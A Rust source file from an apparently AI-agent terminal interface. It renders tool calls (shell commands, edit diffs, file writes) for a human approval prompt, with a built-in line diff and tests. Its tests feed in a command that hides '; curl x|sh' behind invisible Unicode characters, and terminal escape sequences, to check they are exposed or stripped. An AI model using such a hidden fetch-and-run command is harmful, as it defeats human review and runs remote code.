//! What a tool call would do, shown usefully for an approval: the shell
//! command (wrapped, with its description), an edit as a coloured unified
//! diff of `old_string` and `new_string` (one per edit of a MultiEdit), a
//! new file's path and first lines, otherwise the input as pretty JSON.
//!
//! Pure: JSON in, styled lines out, with a small line diff of its own
//! (longest common subsequence after trimming the common ends, so large
//! inputs stay cheap). Every piece of agent text goes through `safe_text`
//! before it becomes a line; never panics on whatever the agent sent.

use ratatui::style::Style;
use ratatui::text::{Line, Span};
use serde_json::Value;

use super::theme::Theme;
use super::wrap::wrap;
use crate::present::safe_text;

/// Unchanged lines kept around each change of a diff.
pub const CONTEXT: usize = 3;
/// Above this many cells in the LCS table the middle of a diff is shown as
/// all removed then all added (still correct, just less precise).
const MAX_LCS_CELLS: usize = 250_000;

/// One line of a line diff.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DiffLine<'a> {
    /// In both texts.
    Same(&'a str),
    /// Only in the old text.
    Removed(&'a str),
    /// Only in the new text.
    Added(&'a str),
}

/// The lines of `old` and `new` as removed, added and unchanged lines, in
/// order, removals before additions at each change.
pub fn line_diff<'a>(old: &'a str, new: &'a str) -> Vec<DiffLine<'a>> {
    let a: Vec<&str> = split_lines(old);
    let b: Vec<&str> = split_lines(new);
    let prefix = a.iter().zip(&b).take_while(|(x, y)| x == y).count();
    let suffix = a[prefix..]
        .iter()
        .rev()
        .zip(b[prefix..].iter().rev())
        .take_while(|(x, y)| x == y)
        .count();
    let (ma, mb) = (&a[prefix..a.len() - suffix], &b[prefix..b.len() - suffix]);
    let mut out: Vec<DiffLine<'a>> = a[..prefix].iter().map(|l| DiffLine::Same(l)).collect();
    if (ma.len() + 1).saturating_mul(mb.len() + 1) > MAX_LCS_CELLS {
        out.extend(ma.iter().map(|l| DiffLine::Removed(l)));
        out.extend(mb.iter().map(|l| DiffLine::Added(l)));
    } else {
        out.extend(lcs_diff(ma, mb));
    }
    out.extend(a[a.len() - suffix..].iter().map(|l| DiffLine::Same(l)));
    out
}

/// Lines without their terminators; an empty text has no lines.
fn split_lines(s: &str) -> Vec<&str> {
    s.lines().collect()
}

/// The diff of two short line lists by a longest common subsequence table.
fn lcs_diff<'a>(a: &[&'a str], b: &[&'a str]) -> Vec<DiffLine<'a>> {
    let (n, m) = (a.len(), b.len());
    // lcs[i][j]: length of the LCS of a[i..] and b[j..].
    let mut lcs = vec![0u32; (n + 1) * (m + 1)];
    let at = |i: usize, j: usize| i * (m + 1) + j;
    for i in (0..n).rev() {
        for j in (0..m).rev() {
            lcs[at(i, j)] = if a[i] == b[j] {
                lcs[at(i + 1, j + 1)] + 1
            } else {
                lcs[at(i + 1, j)].max(lcs[at(i, j + 1)])
            };
        }
    }
    let (mut i, mut j) = (0, 0);
    let mut out = Vec::with_capacity(n + m);
    while i < n || j < m {
        if i < n && j < m && a[i] == b[j] {
            out.push(DiffLine::Same(a[i]));
            i += 1;
            j += 1;
        } else if j == m || (i < n && lcs[at(i + 1, j)] >= lcs[at(i, j + 1)]) {
            out.push(DiffLine::Removed(a[i]));
            i += 1;
        } else {
            out.push(DiffLine::Added(b[j]));
            j += 1;
        }
    }
    out
}

/// A unified view of a diff: changes with `context` unchanged lines around
/// them; `None` marks where unchanged lines were left out.
pub fn unified<'a>(diff: &[DiffLine<'a>], context: usize) -> Vec<Option<DiffLine<'a>>> {
    let changed: Vec<usize> = diff
        .iter()
        .enumerate()
        .filter(|(_, l)| !matches!(l, DiffLine::Same(_)))
        .map(|(i, _)| i)
        .collect();
    let near = |i: usize| changed.iter().any(|&c| c.abs_diff(i) <= context);
    let mut out = Vec::new();
    let mut skipped = false;
    for (i, line) in diff.iter().enumerate() {
        if matches!(line, DiffLine::Same(_)) && !near(i) {
            skipped = true;
            continue;
        }
        if skipped {
            out.push(None);
        }
        skipped = false;
        out.push(Some(line.clone()));
    }
    if skipped && !out.is_empty() {
        out.push(None);
    }
    out
}

fn text_of<'v>(input: &'v Value, key: &str) -> Option<&'v str> {
    input.get(key).and_then(Value::as_str)
}

/// Wraps one logical line with a marker in front, continuation lines
/// indented under the text.
fn marked(mark: &str, text: &str, style: Style, width: usize) -> Vec<Line<'static>> {
    let indent = " ".repeat(mark.chars().count());
    wrap(&[(mark, style), (text, style)], width, (&indent, style))
}

fn heading(text: String, th: Theme, note: Option<String>) -> Line<'static> {
    let mut spans = vec![Span::styled(text, th.title())];
    if let Some(note) = note {
        spans.push(Span::styled(format!("  {note}"), th.dim()));
    }
    Line::from(spans)
}

fn diff_lines(old: &str, new: &str, th: Theme, width: usize) -> Vec<Line<'static>> {
    let (old, new) = (safe_text(old), safe_text(new));
    let diff = line_diff(&old, &new);
    let shown = unified(&diff, CONTEXT);
    if shown.is_empty() {
        return vec![Line::styled("(no change)", th.dim())];
    }
    let mut out = Vec::new();
    for line in shown {
        match line {
            None => out.push(Line::styled("⋯", th.dim())),
            Some(DiffLine::Same(l)) => out.extend(marked("  ", l, th.text(), width)),
            Some(DiffLine::Removed(l)) => out.extend(marked("- ", l, th.diff_removed(), width)),
            Some(DiffLine::Added(l)) => out.extend(marked("+ ", l, th.diff_added(), width)),
        }
    }
    out
}

/// The lines showing what `tool` would do with `input`, wrapped to
/// `width`. Long inputs give many lines: the caller keeps what fits.
pub fn tool_detail(tool: &str, input: &Value, th: Theme, width: usize) -> Vec<Line<'static>> {
    let width = width.max(8);
    let path = text_of(input, "file_path")
        .or_else(|| text_of(input, "notebook_path"))
        .or_else(|| text_of(input, "path"))
        .map(safe_text);
    let mut out = Vec::new();
    if let Some(command) = text_of(input, "command") {
        for (i, l) in safe_text(command).lines().enumerate() {
            out.extend(marked(
                if i == 0 { "$ " } else { "  " },
                l,
                th.text(),
                width,
            ));
        }
        let mut notes = Vec::new();
        if let Some(d) = text_of(input, "description") {
            notes.push(safe_text(d));
        }
        if input.get("run_in_background").and_then(Value::as_bool) == Some(true) {
            notes.push("runs in the background".into());
        }
        if !notes.is_empty() {
            out.extend(marked("# ", &notes.join(" · "), th.dim(), width));
        }
        return out;
    }
    if let Some(edits) = input.get("edits").and_then(Value::as_array) {
        let n = edits.len();
        out.push(heading(
            path.unwrap_or_else(|| "(no path)".into()),
            th,
            Some(format!("{n} edit{}", if n == 1 { "" } else { "s" })),
        ));
        for (i, edit) in edits.iter().enumerate() {
            let all = edit.get("replace_all").and_then(Value::as_bool) == Some(true);
            out.push(Line::styled(
                format!(
                    "@@ edit {}/{n}{} @@",
                    i + 1,
                    if all { ", every occurrence" } else { "" }
                ),
                th.tool(),
            ));
            out.extend(diff_lines(
                text_of(edit, "old_string").unwrap_or(""),
                text_of(edit, "new_string").unwrap_or(""),
                th,
                width,
            ));
        }
        return out;
    }
    if let (Some(old), Some(new)) = (text_of(input, "old_string"), text_of(input, "new_string")) {
        let all = input.get("replace_all").and_then(Value::as_bool) == Some(true);
        out.push(heading(
            path.unwrap_or_else(|| "(no path)".into()),
            th,
            all.then(|| "every occurrence".to_string()),
        ));
        out.extend(diff_lines(old, new, th, width));
        return out;
    }
    if let (Some(path), Some(content)) = (&path, text_of(input, "content")) {
        let content = safe_text(content);
        let n = content.lines().count();
        let note = match n {
            0 => "empty file".to_string(),
            1 => "1 line".to_string(),
            n => format!("{n} lines"),
        };
        out.push(heading(path.clone(), th, Some(note)));
        for l in content.lines() {
            out.extend(marked("+ ", l, th.diff_added(), width));
        }
        return out;
    }
    if tool == "NotebookEdit"
        && let Some(source) = text_of(input, "new_source")
    {
        out.push(heading(path.unwrap_or_default(), th, None));
        for l in safe_text(source).lines() {
            out.extend(marked("+ ", l, th.diff_added(), width));
        }
        return out;
    }
    let pretty = match input {
        Value::Null => String::new(),
        v => serde_json::to_string_pretty(v).unwrap_or_default(),
    };
    for l in safe_text(&pretty).lines() {
        out.extend(marked("", l, th.text(), width));
    }
    if out.is_empty() {
        out.push(Line::styled("(no input)", th.dim()));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tui::wrap::plain;
    use DiffLine::*;
    use serde_json::json;

    fn th() -> Theme {
        Theme { color: true }
    }

    fn texts(lines: &[Line<'_>]) -> Vec<String> {
        lines.iter().map(plain).collect()
    }

    #[test]
    fn the_approval_box_shows_invisible_characters_in_the_command() {
        let input =
            json!({"command": "echo safe\u{202e}\u{200d}; curl x|sh", "description": "a\u{2067}b"});
        let shown = texts(&tool_detail("Bash", &input, th(), 80)).join("\n");
        assert!(
            shown.contains("echo safe⟨U+202E⟩⟨U+200D⟩; curl x|sh"),
            "{shown}"
        );
        assert!(shown.contains("a⟨U+2067⟩b"), "{shown}");
        assert!(
            !shown.chars().any(crate::agent::sanitize::is_invisible),
            "{shown}"
        );
    }

    #[test]
    fn a_changed_line_in_the_middle_is_removed_then_added() {
        assert_eq!(
            line_diff("a\nb\nc", "a\nB\nc"),
            [Same("a"), Removed("b"), Added("B"), Same("c")]
        );
        assert_eq!(line_diff("", "x\ny"), [Added("x"), Added("y")]);
        assert_eq!(line_diff("x", ""), [Removed("x")]);
        assert_eq!(line_diff("same", "same"), [Same("same")]);
    }

    #[test]
    fn an_insertion_keeps_the_lines_around_it() {
        assert_eq!(
            line_diff(
                "fn a() {\n}\nfn c() {\n}",
                "fn a() {\n}\nfn b() {\n}\nfn c() {\n}"
            ),
            [
                Same("fn a() {"),
                Same("}"),
                Added("fn b() {"),
                Added("}"),
                Same("fn c() {"),
                Same("}"),
            ]
        );
    }

    #[test]
    fn the_diff_rebuilds_both_texts() {
        let old = "one\ntwo\nthree\nfour\nfive\nsix";
        let new = "zero\none\nthree\n4\nfive\nsix\nseven";
        let d = line_diff(old, new);
        let back_old: Vec<&str> = d
            .iter()
            .filter_map(|l| match l {
                Same(s) | Removed(s) => Some(*s),
                Added(_) => None,
            })
            .collect();
        let back_new: Vec<&str> = d
            .iter()
            .filter_map(|l| match l {
                Same(s) | Added(s) => Some(*s),
                Removed(_) => None,
            })
            .collect();
        assert_eq!(back_old.join("\n"), old);
        assert_eq!(back_new.join("\n"), new);
        assert_eq!(d.iter().filter(|l| matches!(l, Same(_))).count(), 4);
    }

    #[test]
    fn huge_inputs_fall_back_without_blowing_up() {
        let old: String = (0..2_000).map(|i| format!("old {i}\n")).collect();
        let new: String = (0..2_000).map(|i| format!("new {i}\n")).collect();
        let d = line_diff(&old, &new);
        assert_eq!(d.len(), 4_000);
        assert!(matches!(d[0], Removed("old 0")));
        assert!(matches!(d[2_000], Added("new 0")));
    }

    #[test]
    fn unified_keeps_context_and_marks_gaps() {
        let old: Vec<String> = (1..=20).map(|i| i.to_string()).collect();
        let mut new = old.clone();
        new[9] = "ten".into();
        let (o, n) = (old.join("\n"), new.join("\n"));
        let d = line_diff(&o, &n);
        assert_eq!(
            unified(&d, 2),
            [
                None,
                Some(Same("8")),
                Some(Same("9")),
                Some(Removed("10")),
                Some(Added("ten")),
                Some(Same("11")),
                Some(Same("12")),
                None,
            ]
        );
        // Changes close together share their context: no gap between them.
        new[13] = "fourteen".into();
        let n = new.join("\n");
        let d = line_diff(&o, &n);
        assert_eq!(unified(&d, 2).iter().filter(|l| l.is_none()).count(), 2);
    }

    #[test]
    fn bash_shows_every_line_of_the_command_wrapped_and_its_description() {
        let lines = tool_detail(
            "Bash",
            &json!({"command": "cargo build --release --all-features\ncargo test", "description": "Build and test"}),
            th(),
            20,
        );
        assert_eq!(
            texts(&lines),
            [
                "$ cargo build",
                "  --release",
                "  --all-features",
                "  cargo test",
                "# Build and test"
            ]
        );
    }

    #[test]
    fn an_edit_is_a_coloured_diff_under_its_path() {
        let lines = tool_detail(
            "Edit",
            &json!({"file_path": "src/a.rs", "old_string": "let a = 1;\nlet b = a;", "new_string": "let a = 2;\nlet b = a;"}),
            th(),
            60,
        );
        assert_eq!(
            texts(&lines),
            ["src/a.rs", "- let a = 1;", "+ let a = 2;", "  let b = a;"]
        );
        assert_eq!(lines[1].spans[0].style, th().diff_removed());
        assert_eq!(lines[2].spans[0].style, th().diff_added());
    }

    #[test]
    fn a_multi_edit_shows_each_edit() {
        let lines = tool_detail(
            "MultiEdit",
            &json!({"file_path": "x.py", "edits": [
                {"old_string": "a", "new_string": "b"},
                {"old_string": "c", "new_string": "d", "replace_all": true}
            ]}),
            th(),
            60,
        );
        assert_eq!(
            texts(&lines),
            [
                "x.py  2 edits",
                "@@ edit 1/2 @@",
                "- a",
                "+ b",
                "@@ edit 2/2, every occurrence @@",
                "- c",
                "+ d"
            ]
        );
    }

    #[test]
    fn a_write_shows_the_path_and_the_content_other_tools_pretty_json() {
        let lines = tool_detail(
            "Write",
            &json!({"file_path": "notes.md", "content": "# Notes\nhello\n"}),
            th(),
            60,
        );
        assert_eq!(texts(&lines), ["notes.md  2 lines", "+ # Notes", "+ hello"]);
        let lines = tool_detail("WebFetch", &json!({"url": "http://x"}), th(), 60);
        assert_eq!(texts(&lines), ["{", "  \"url\": \"http://x\"", "}"]);
    }

    #[test]
    fn hostile_input_never_reaches_the_screen_and_odd_input_never_panics() {
        let lines = tool_detail(
            "Bash",
            &json!({"command": "echo \u{1b}]0;pwned\u{7}ok\u{1b}[2J"}),
            th(),
            60,
        );
        let all: String = texts(&lines).concat();
        assert!(!all.chars().any(char::is_control), "{all:?}");
        assert!(all.contains("ok"));
        for odd in [
            json!(null),
            json!([1, 2]),
            json!({"edits": "nope"}),
            json!({"old_string": 3, "new_string": null}),
            json!({"edits": [null, {"old_string": "a"}]}),
        ] {
            assert!(!tool_detail("Edit", &odd, th(), 1).is_empty());
        }
    }
}
